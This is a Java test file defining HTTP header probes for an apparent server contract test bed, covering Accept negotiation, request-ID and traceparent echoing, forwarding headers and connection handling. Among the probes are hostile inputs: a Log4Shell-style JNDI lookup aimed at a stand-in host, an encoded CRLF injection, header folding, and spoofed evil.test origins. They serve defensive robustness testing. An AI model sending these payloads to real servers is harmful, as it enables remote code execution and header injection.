package dev.twinstack.testbed.contract;

import java.util.List;

/** Header fields, foremost {@code Accept}. */
final class HeaderProbes {

  private static final String TRACEPARENT =
      "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";

  private HeaderProbes() {}

  static List<Probe> all() {
    return Probes.join(accept(), requestId(), others(), connection());
  }

  private static Probe accept(int status, String value) {
    return Probes.idle("Accept: " + value, status, "Accept: " + value + "\r\n");
  }

  private static List<Probe> accept() {
    return List.of(
        accept(200, "*/*"),
        accept(200, "application/json"),
        accept(200, "APPLICATION/JSON"),
        accept(200, "application/*"),
        accept(200, "application/json;charset=utf-8"),
        accept(200, "application/json;q=0.1, text/html"),
        accept(200, "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        accept(200, "text/html, application/json;q=0.001"),
        accept(200, ", ,application/json"),
        accept(406, "text/html"),
        accept(406, "application/xml"),
        accept(406, "application/problem+json"),
        accept(406, "application/*+json"),
        accept(406, "application/json;q=0"),
        accept(406, "application/json;q=0, */*"),
        accept(406, "*/*;q=0"),
        accept(406, "application/json;q=2"),
        accept(406, "application/json;q=x"),
        accept(406, "json"),
        accept(406, "*"),
        accept(406, "*/json"),
        accept(406, ""),
        accept(406, "/"),
        accept(406, "application/json\\"),
        Probes.idle(
            "two Accept fields, one fits",
            200,
            "Accept: text/html\r\nAccept: application/json\r\n"),
        Probes.idle(
            "two Accept fields, none fits", 406, "Accept: text/html\r\nAccept: text/plain\r\n"),
        Probes.get("404 goes before 406", 404, "/nothing"),
        Probes.request("405 goes before 406", 405, "POST", "/demo", "Accept: text/html\r\n"),
        Probes.request("406 goes before 400", 406, "GET", "/demo?name=", "Accept: text/html\r\n"));
  }

  /** An identifier that is taken comes back, whatever the answer; for any other one is made. */
  private static List<Probe> requestId() {
    return List.of(
        Probes.idle("X-Request-Id", 200, "X-Request-Id: 7b3f-1\r\n"),
        Probes.request(
            "X-Request-Id of rows", 200, "GET", "/demo?name=a", "x-request-id: 7b3f\r\n"),
        Probes.request("X-Request-Id and 404", 404, "GET", "/nothing", "X-Request-Id: 7b3f-1\r\n"),
        Probes.request("X-Request-Id and 400", 400, "GET", "/demo?name=", "X-Request-Id: 7b3f\r\n"),
        Probes.request("X-Request-Id and 405", 405, "POST", "/demo", "X-Request-Id: 7b3f-1\r\n"),
        Probes.request("X-Request-Id of HEAD", 200, "HEAD", "/idle", "X-Request-Id: 7b3f-1\r\n"),
        Probes.idle("traceparent", 200, "traceparent: " + TRACEPARENT + "\r\n"),
        Probes.idle("two traceparents", 200, ("traceparent: " + TRACEPARENT + "\r\n").repeat(2)),
        Probes.idle("malformed traceparent", 200, "traceparent: " + TRACEPARENT + "x\r\n"),
        Probes.idle(
            "X-Request-Id and traceparent",
            200,
            "X-Request-Id: 7b3f-1\r\ntraceparent: " + TRACEPARENT + "\r\n"),
        Probes.idle(
            "X-Request-Id that is not taken, and traceparent",
            200,
            "X-Request-Id: a b\r\ntraceparent: " + TRACEPARENT + "\r\n"),
        Probes.idle("X-Request-Id between tabs", 200, "X-Request-Id:\t7b3f-1\t\r\n"),
        Probes.idle("X-Request-Id that ends a line", 200, "X-Request-Id: a%0d%0ab\r\n"),
        Probes.idle("X-Request-Id, folded", 200, "X-Request-Id: a\r\n b\r\n"),
        Probes.idle("two X-Request-Id", 200, "X-Request-Id: a\r\nX-Request-Id: b\r\n"),
        Probes.idle("empty X-Request-Id", 200, "X-Request-Id:\r\n"),
        Probes.idle("X-Request-Id with a blank", 200, "X-Request-Id: a b\r\n"),
        Probes.idle("X-Request-Id that looks up", 200, "X-Request-Id: ${jndi:ldap://x.test/a}\r\n"),
        Probes.idle("X-Request-Id beyond ASCII", 200, "X-Request-Id: \u00e4\r\n"),
        Probes.idle("long X-Request-Id", 200, "X-Request-Id: " + "x".repeat(128) + "\r\n"),
        Probes.idle("too long X-Request-Id", 200, "X-Request-Id: " + "x".repeat(129) + "\r\n"));
  }

  private static List<Probe> others() {
    return List.of(
        Probes.idle("Accept-Encoding: gzip", 200, "Accept-Encoding: gzip, br\r\n"),
        Probes.request(
            "Accept-Encoding on a long answer",
            200,
            "GET",
            "/demo?name=a",
            "Accept-Encoding: gzip\r\n"),
        Probes.idle("Accept-Encoding: identity;q=0", 200, "Accept-Encoding: identity;q=0\r\n"),
        Probes.idle("Accept-Charset", 200, "Accept-Charset: iso-8859-1\r\n"),
        Probes.idle("Accept-Language", 200, "Accept-Language: ja\r\n"),
        Probes.idle("malformed Accept-Language", 200, "Accept-Language: @@@\r\n"),
        Probes.idle("Range", 200, "Range: bytes=0-0\r\n"),
        Probes.idle("If-None-Match: *", 200, "If-None-Match: *\r\n"),
        Probes.idle("If-Match of nothing", 200, "If-Match: \"x\"\r\n"),
        Probes.idle(
            "If-Modified-Since", 200, "If-Modified-Since: Sat, 21 Nov 2037 02:53:52 GMT\r\n"),
        Probes.idle("malformed If-Modified-Since", 200, "If-Modified-Since: never\r\n"),
        Probes.idle(
            "If-Unmodified-Since", 200, "If-Unmodified-Since: Sat, 21 Nov 1998 02:53:52 GMT\r\n"),
        Probes.idle("Origin", 200, "Origin: http://evil.test\r\n"),
        Probes.idle("Origin: null", 200, "Origin: null\r\n"),
        Probes.idle("Cookie", 200, "Cookie: JSESSIONID=1; a=b\r\n"),
        Probes.idle("malformed Cookie", 200, "Cookie: =;;=\"\r\n"),
        Probes.idle("Authorization", 200, "Authorization: Basic ZGVtbzpkZW1v\r\n"),
        Probes.idle("X-Forwarded-For", 200, "X-Forwarded-For: 10.0.0.1\r\n"),
        Probes.idle(
            "X-Forwarded-Proto and -Host",
            200,
            "X-Forwarded-Proto: https\r\nX-Forwarded-Host: evil.test\r\n"),
        Probes.idle("malformed X-Forwarded-Port", 200, "X-Forwarded-Port: x\r\n"),
        Probes.idle("Forwarded", 200, "Forwarded: for=10.0.0.1;proto=https;host=evil.test\r\n"),
        Probes.idle(
            "X-Original-URL", 200, "X-Original-URL: /nothing\r\nX-Rewrite-URL: /nothing\r\n"),
        Probes.idle("malformed Content-Type", 200, "Content-Type: @@@\r\n"),
        Probes.idle("Content-Type without a body", 200, "Content-Type: application/json\r\n"),
        Probes.idle("empty value", 200, "X-Empty:\r\n"),
        Probes.idle("tab around a value", 200, "X-Tab:\ta\t\r\n"),
        Probes.idle("ISO-8859-1 in a value", 200, "X-Latin: \u00e4\r\n"),
        Probes.idle("long value", 200, "X-Long: " + "x".repeat(6000) + "\r\n"),
        Probes.idle("ninety fields", 200, "X-Many: 1\r\n".repeat(90)),
        Probes.idle("two hundred fields", 200, "X-Many: 1\r\n".repeat(200)));
  }

  private static List<Probe> connection() {
    return List.of(
        Probes.idle("Connection: close", 200, "Connection: close\r\n"),
        Probes.idle("Connection: Close", 200, "Connection: Close\r\n"),
        Probes.idle("Connection: keep-alive", 200, "Connection: keep-alive\r\n"),
        Probes.idle("Connection: close, x", 200, "Connection: close, x\r\n"),
        Probes.idle("Connection: x", 200, "Connection: x\r\n"),
        Probes.idle("Keep-Alive", 200, "Keep-Alive: timeout=5\r\n"),
        Probes.idle(
            "upgrade to h2c",
            200,
            "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"),
        Probes.idle(
            "upgrade to a web socket",
            200,
            "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"),
        new Probe("HTTP/1.0", 200, "GET /idle HTTP/1.0\r\nHost: twinstack.test\r\n\r\n"),
        new Probe("HTTP/1.0 without a Host", 200, "GET /idle HTTP/1.0\r\n\r\n"),
        new Probe(
            "HTTP/1.0 with keep-alive",
            200,
            "GET /idle HTTP/1.0\r\nConnection: keep-alive\r\n\r\n"),
        new Probe("HTTP/1.0, an unknown path", 404, "GET /nothing HTTP/1.0\r\n\r\n"),
        Probes.request(
            "a refused request with Connection: close",
            404,
            "GET",
            "/nothing",
            "Connection: close\r\n"));
  }
}
